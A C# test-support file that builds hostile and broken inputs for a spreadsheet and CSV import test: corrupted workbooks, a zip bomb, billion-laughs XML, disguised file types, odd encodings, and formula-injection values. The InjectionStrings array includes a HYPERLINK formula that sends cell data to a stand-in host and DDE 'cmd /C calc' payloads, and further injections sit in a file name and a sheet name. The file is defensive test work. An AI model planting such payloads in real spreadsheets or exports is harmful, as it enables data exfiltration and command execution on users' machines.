using System.Text;
using BatchCycle.Tests.Support;

namespace BatchCycle.Tests.Reliability;

/// <summary>A problem the import must report for a hostile file: words of the problem and, where they apply, sheet, row and column.</summary>
public sealed record ExpectedIssue(string Problem, string? Sheet = null, int? Row = null, string? Column = null);

/// <summary>
/// One hostile or broken input file: how to write it, the problems the import must report for it, and the
/// applications that must still be imported from it (its ids start with a prefix of its own).
/// </summary>
public sealed record HostileFile(string Name, Action<string> Write, IReadOnlyList<ExpectedIssue> Issues, IReadOnlyList<string> ApplicationIds)
{
    public override string ToString() => Name;
}

/// <summary>
/// The corpus of hostile and broken inputs, each generated here so that it documents itself: damaged and
/// disguised workbooks, a zip bomb, wrong encodings, misplaced headers, odd cells and formula injection.
/// </summary>
public static class HostileFiles
{
    public static readonly object?[] ApplicationHeader = ["ApplicationId", "LabelType", "Kind", "ApplicantName", "SubmittedOn"];

    /// <summary>Values a spreadsheet would run as formulas if they were written as typed (OWASP CSV injection).</summary>
    public static readonly string[] InjectionStrings =
    [
        "=HYPERLINK(\"http://example.invalid/steal?x=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
    ];

    private static readonly Lazy<byte[]> Bomb = new(HostilePackages.MakeBomb);

    public static object?[] App(string id, string name = "Hostile Test Ltd", object? submitted = null) =>
        [id, "M", "New", name, submitted ?? "2025-05-14"];

    /// <summary>The well-formed files that share the run folder with the hostile ones: their records must all be imported.</summary>
    public static IReadOnlyList<HostileFile> Good { get; } =
    [
        Xlsx("good-applications.xlsx", b => b.Sheet("Applications").Row(ApplicationHeader).Row(App("GOOD-1")).Row(App("GOOD-2")).Row(App("GOOD-3")), ids: ["GOOD-1", "GOOD-2", "GOOD-3"]),
        Csv("good-applications.csv", [ApplicationHeader, App("GOOD-4"), App("GOOD-5")], ids: ["GOOD-4", "GOOD-5"]),
    ];

    /// <summary>Every hostile file, named after what is wrong with it.</summary>
    public static IReadOnlyList<HostileFile> All { get; } = Build();

    private static List<HostileFile> Build() => [.. Damaged(), .. Disguised(), .. BadlyLaidOut()];

    /// <summary>Damaged workbooks, and packages built to exhaust memory.</summary>
    private static List<HostileFile> Damaged()
    {
        var damaged = new ExpectedIssue("not a readable Excel workbook");
        var unsafePackage = new ExpectedIssue("refused as unsafe");
        return
        [
            // Damaged workbooks.
            Bytes("truncated-half.xlsx", () => GoodXlsx("TRH")[..(GoodXlsx("TRH").Length / 2)], damaged),
            Bytes("truncated-header.xlsx", () => GoodXlsx("TRS")[..30], damaged),
            Bytes("flipped-bytes.xlsx", () => HostilePackages.FlipInSheetData(GoodXlsx("FLP")), damaged),
            Bytes("broken-sheet-xml.xlsx", () => HostilePackages.RawXlsx("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>ApplicationId</t></is></c>"), damaged),
            Bytes("missing-workbook-part.xlsx", () => HostilePackages.Repack(GoodXlsx("MWP"), (name, content) => name.EndsWith("workbook.xml", StringComparison.Ordinal) ? null : content), damaged),
            Bytes("bad-shared-string-index.xlsx", BadSharedStringIndex, new ExpectedIssue("shared text, which holds only 10", "Sheet1", 2, "ApplicantName")),
            Bytes("billion-laughs.xlsx", () => HostilePackages.RawXlsx(HostilePackages.BillionLaughs()), damaged),
            Bytes("empty-package.xlsx", () => HostilePackages.Repack(GoodXlsx("EMP"), (_, _) => null), damaged),
            Bytes("word-document.xlsx", () => HostilePackages.Zip(("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"), ("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>")), damaged),
            Bytes("compound-header-only.xls", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]], damaged),
            Bytes("compound-random-body.xls", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. RandomBytes(4096, 11)], damaged),

            // Packages built to exhaust memory.
            new("zip-bomb.xlsx", path => File.WriteAllBytes(path, Bomb.Value), [unsafePackage], []),
            new("zip-bomb-lying-sizes.xlsx", path => File.WriteAllBytes(path, HostilePackages.DeclareSizes(Bomb.Value, 1000)), [damaged], []),
            new("many-parts.xlsx", HostilePackages.WriteManyParts, [unsafePackage], []),
        ];
    }

    /// <summary>Other files given a spreadsheet's name, and text in unexpected encodings.</summary>
    private static List<HostileFile> Disguised()
    {
        var disguised = new ExpectedIssue("neither an .xlsx nor an .xls workbook");
        var noKind = new ExpectedIssue("matches no input kind");
        return
        [
            // Other files given a spreadsheet's name.
            Bytes("png-image.xlsx", () => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. RandomBytes(2048, 1)], disguised),
            Bytes("pdf-document.xlsx", () => Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"), disguised),
            Bytes("windows-program.xlsx", () => [(byte)'M', (byte)'Z', 0x90, 0, .. RandomBytes(4096, 2)], disguised),
            Bytes("linux-program.xls", () => [0x7F, (byte)'E', (byte)'L', (byte)'F', .. RandomBytes(4096, 3)], disguised),
            Bytes("text.xls", () => Encoding.UTF8.GetBytes("ApplicationId,LabelType,Kind,ApplicantName,SubmittedOn\r\nTXT-1,M,New,X,2025-05-14\r\n"), disguised),
            Bytes("binary.csv", () => RandomBytes(8192, 4), noKind),
            Bytes("only-a-bom.csv", () => [0xEF, 0xBB, 0xBF], new ExpectedIssue("no rows with values")),
            Bytes("unbalanced-quote.csv", () => Encoding.UTF8.GetBytes("ApplicationId,LabelType,Kind,ApplicantName,SubmittedOn\r\n\"UBQ-1,M,New,X,2025-05-14\r\n"), new ExpectedIssue("ApplicantName", Row: 2)),

            // Encodings.
            Encoded("shift-jis.csv", Encoding.GetEncoding(932), "SJS", "株式会社テスト工業"),
            Encoded("utf16-le-bom.csv", new UnicodeEncoding(bigEndian: false, byteOrderMark: true), "U16LB", "东莞恒丰五金制品有限公司", preamble: true),
            Encoded("utf16-be-bom.csv", new UnicodeEncoding(bigEndian: true, byteOrderMark: true), "U16BB", "東莞恆豐五金製品有限公司", preamble: true),
            Encoded("utf16-le.csv", new UnicodeEncoding(bigEndian: false, byteOrderMark: false), "U16L", "深圳市环保科技有限公司"),
            Encoded("utf16-be.csv", new UnicodeEncoding(bigEndian: true, byteOrderMark: false), "U16B", "广州纺织印染有限公司"),
            Encoded("utf8-bom.csv", new UTF8Encoding(true), "U8B", "惠州塑胶制品厂", preamble: true),
            Bytes("double-bom.csv", () => [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF, .. TestFiles.Utf8Csv([ApplicationHeader, App("DBOM-1")])], ids: ["DBOM-1"]),
            Bytes("mixed-encodings.csv", MixedEncodings, ids: ["MIX-1", "MIX-2"]),
        ];
    }

    /// <summary>Headers, sheets and cells in the wrong place or of the wrong kind, and formula injection.</summary>
    private static List<HostileFile> BadlyLaidOut()
    {
        var noKind = new ExpectedIssue("matches no input kind");
        return
        [
            // Headers in the wrong place, duplicated and missing columns.
            Xlsx("title-rows.xlsx", b => b.Sheet("Applications").Row("2025 粤港清洁生产伙伴 Applications").Row("Exported 2025-06-01").RowAt(5, ApplicationHeader).Row(App("TTL-1")), ids: ["TTL-1"]),
            Xlsx("header-at-row-25.xlsx", b => TitleRows(b.Sheet("Late"), 24).Row(ApplicationHeader).Row(App("LATE-1")), new ExpectedIssue("first 20 rows", Sheet: "Late")),
            Csv("duplicated-columns.csv", [[.. ApplicationHeader, "申请编号"], [.. App("DUP-1"), "DUP-OTHER"]], [new ExpectedIssue("appears twice", "duplicated-columns.csv", 1, "申请编号")], ["DUP-1"]),
            Csv("missing-columns.csv", [ApplicationHeader[..4], App("MIS-1")[..4]], [new ExpectedIssue("lacks SubmittedOn", "missing-columns.csv")], []),
            Csv("semicolons.csv", [[string.Join(';', ApplicationHeader)], [string.Join(';', App("SEMI-1"))]], [noKind], []),

            // Sheets and cells.
            Xlsx("hidden-sheet.xlsx", b => b.Sheet("Hidden applications", hidden: true).Row(ApplicationHeader).Row(App("HID-1")), ids: ["HID-1"]),
            Xlsx("merged-cells.xlsx", b => b.Sheet("Merged").Row(ApplicationHeader).Row(App("MRG-1")).Row("MRG-2", "M", "New", null, "2025-05-14").Merge("D2:D3"), [new ExpectedIssue("required but the cell is empty", "Merged", 3, "ApplicantName")], ["MRG-1"]),
            Xlsx("formulas-and-errors.xlsx", b => b.Sheet("Formulas").Row(ApplicationHeader)
                .Row(new XlsxFormula("\"FRM-\"&\"1\"", "FRM-1"), "M", "New", "X", new XlsxFormula("DATE(2025,5,14)", 45791.0))
                .Row("FRM-2", "M", "New", new XlsxError("#REF!"), "2025-05-14")
                .Row("FRM-3", "M", "New", "X", new XlsxError("#DIV/0!")), [new ExpectedIssue("#REF!", "Formulas", 3, "ApplicantName"), new ExpectedIssue("#DIV/0!", "Formulas", 4, "SubmittedOn")], ["FRM-1"]),
            Bytes("dates-out-of-range.xlsx", DatesOutOfRange, [new ExpectedIssue("1900", "Dates", 2, "SubmittedOn"), new ExpectedIssue("9999", "Dates", 3, "SubmittedOn"), new ExpectedIssue("-1", "Dates", 4, "SubmittedOn"), new ExpectedIssue("2958466", "Dates", 5, "SubmittedOn")], ["DTE-OK"]),
            Csv("dates-out-of-range.csv", [ApplicationHeader, App("DTC-1", submitted: "1900-01-01"), App("DTC-2", submitted: "9999-12-31"), App("DTC-3", submitted: "0000-00-00"), App("DTC-4", submitted: "29/02/2025")], [new ExpectedIssue("1900", Row: 2), new ExpectedIssue("9999", Row: 3), new ExpectedIssue("0000", Row: 4), new ExpectedIssue("29", Row: 5)], []),
            Xlsx("long-cells.xlsx", b => b.Sheet("Long").Row(ApplicationHeader).Row(App("LNG-1", new string('长', 10_000))).Row(App("LNG-2", LongText(100_000))), ids: ["LNG-1", "LNG-2"]),
            Csv("long-cells.csv", [ApplicationHeader, App("LNC-1", LongText(100_000)), [new string('X', 10_000), "M", "New", "X", "2025-05-14"]], ids: ["LNC-1", new string('X', 10_000)]),
            Csv("control-characters.csv", [ApplicationHeader, App("CTL-1", "Nul\0Inside Ltd"), App("CTL-2", "Start\u0001Of\u001B[31mHeading"), App("CTL-3\u0007", "Bell Ltd")], ids: ["CTL-1", "CTL-2", "CTL-3\u0007"]),
            Xlsx("right-to-left-and-emoji.xlsx", b => b.Sheet("RTL").Row(ApplicationHeader).Row(App("RTL-1", "شركة الإنتاج النظيف")).Row(App("RTL-2", "חברת ייצור נקי בע\"מ")).Row(App("EMJ-1", "🏭♻️ Green 工厂 👩🏽‍🔬")), ids: ["RTL-1", "RTL-2", "EMJ-1"]),

            // Formula injection: values, a file name and a sheet name a spreadsheet would run as formulas.
            Csv("formula-injection.csv", [ApplicationHeader, .. InjectionStrings.Select((s, i) => App($"INJ-{i + 1}", s))], ids: [.. InjectionStrings.Select((_, i) => $"INJ-{i + 1}")]),
            Csv("=HYPERLINK(1).csv", [ApplicationHeader, ["INJF-1", "Q", "New", "X", "2025-05-14"]], [new ExpectedIssue("not a known LabelType", Row: 2, Column: "LabelType")], []),
            Xlsx("injection-sheet-name.xlsx", b => b.Sheet("+SUM(1)").Row(ApplicationHeader).Row(App("INJS-1", submitted: "sometime")), [new ExpectedIssue("not a date", "+SUM(1)", 2, "SubmittedOn")], []),
        ];
    }

    /// <summary>Writes a good workbook of two applications whose ids start with the prefix.</summary>
    public static byte[] GoodXlsx(string prefix)
    {
        var book = new XlsxBuilder();
        book.Sheet("Applications").Row(ApplicationHeader).Row(App(prefix + "-1")).Row(App(prefix + "-2"));
        return book.ToBytes();
    }

    private static HostileFile Bytes(string name, Func<byte[]> content, params ExpectedIssue[] issues) =>
        new(name, path => File.WriteAllBytes(path, content()), issues, []);

    private static HostileFile Bytes(string name, Func<byte[]> content, IReadOnlyList<ExpectedIssue>? issues = null, IReadOnlyList<string>? ids = null) =>
        new(name, path => File.WriteAllBytes(path, content()), issues ?? [], ids ?? []);

    private static HostileFile Xlsx(string name, Action<XlsxBuilder> build, params ExpectedIssue[] issues) =>
        Xlsx(name, build, issues, []);

    private static HostileFile Xlsx(string name, Action<XlsxBuilder> build, IReadOnlyList<ExpectedIssue>? issues = null, IReadOnlyList<string>? ids = null) =>
        new(name, path =>
        {
            var book = new XlsxBuilder();
            build(book);
            book.Save(path);
        }, issues ?? [], ids ?? []);

    private static HostileFile Csv(string name, IEnumerable<object?[]> rows, IReadOnlyList<ExpectedIssue>? issues = null, IReadOnlyList<string>? ids = null) =>
        new(name, path => File.WriteAllBytes(path, TestFiles.Utf8Csv(rows)), issues ?? [], ids ?? []);

    private static HostileFile Encoded(string name, Encoding encoding, string prefix, string applicant, bool preamble = false) =>
        new(name, path =>
        {
            var text = TestFiles.Csv([ApplicationHeader, App(prefix + "-1", applicant)]);
            File.WriteAllBytes(path, [.. preamble ? encoding.GetPreamble() : [], .. encoding.GetBytes(text)]);
        }, [], [prefix + "-1"]);

    private static XlsxBuilder.SheetBuilder TitleRows(XlsxBuilder.SheetBuilder sheet, int count)
    {
        for (var i = 1; i <= count; i++)
        {
            sheet.Row($"Note {i}: read the guide before filling in this sheet");
        }

        return sheet;
    }

    /// <summary>Text of the given length mixing Chinese, emoji (surrogate pairs) and Latin letters.</summary>
    private static string LongText(int length)
    {
        var text = new StringBuilder(length);
        while (text.Length < length)
        {
            text.Append("清洁生产🏭abc ");
        }

        return text.ToString(0, length);
    }

    private static byte[] RandomBytes(int count, int seed)
    {
        var bytes = new byte[count];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }

    private static byte[] MixedEncodings()
    {
        var gb = Encoding.GetEncoding("GB18030");
        return
        [
            .. TestFiles.Utf8Csv([ApplicationHeader, App("MIX-1", "东莞恒丰五金制品有限公司")]),
            .. gb.GetBytes(TestFiles.Csv([App("MIX-2", "深圳市环保科技有限公司")])),
        ];
    }

    /// <summary>Dates Excel can hold but no application has, and serials outside Excel's calendar, all in date-formatted cells.</summary>
    private static byte[] DatesOutOfRange()
    {
        static string Row(int number, string id, string dateCell) =>
            $"<row r=\"{number}\"><c r=\"A{number}\" t=\"inlineStr\"><is><t>{id}</t></is></c><c r=\"B{number}\" t=\"inlineStr\"><is><t>M</t></is></c><c r=\"C{number}\" t=\"inlineStr\"><is><t>New</t></is></c><c r=\"D{number}\" t=\"inlineStr\"><is><t>X</t></is></c>{dateCell}</row>";
        static string Date(int number, string serial) => $"<c r=\"E{number}\" s=\"1\"><v>{serial}</v></c>";
        var header = "<row r=\"1\">" + string.Concat(ApplicationHeader.Select((h, i) => $"<c r=\"{(char)('A' + i)}1\" t=\"inlineStr\"><is><t>{h}</t></is></c>")) + "</row>";
        var rows = header
            + Row(2, "DTE-1", Date(2, "1"))
            + Row(3, "DTE-2", Date(3, "2958465"))
            + Row(4, "DTE-3", Date(4, "-1"))
            + Row(5, "DTE-4", Date(5, "2958466"))
            + Row(6, "DTE-OK", Date(6, "45791"));
        return HostilePackages.RawXlsx(HostilePackages.SheetXml(rows, wrapRow: false), sheetName: "Dates");
    }

    /// <summary>The header and a row in shared strings, the row's ApplicantName pointing past the end of the table.</summary>
    private static byte[] BadSharedStringIndex()
    {
        string[] strings = [.. ApplicationHeader.Cast<string>(), .. App("SST-1").Cast<string>()];
        static string Cell(string reference, int index) => $"<c r=\"{reference}\" t=\"s\"><v>{index}</v></c>";
        var header = string.Concat(Enumerable.Range(0, 5).Select(i => Cell($"{(char)('A' + i)}1", i)));
        var row = Cell("A2", 5) + Cell("B2", 6) + Cell("C2", 7) + Cell("D2", 999_999) + Cell("E2", 9);
        return HostilePackages.RawXlsx(HostilePackages.SheetXml($"<row r=\"1\">{header}</row><row r=\"2\">{row}</row>", wrapRow: false), sharedStrings: strings);
    }
}
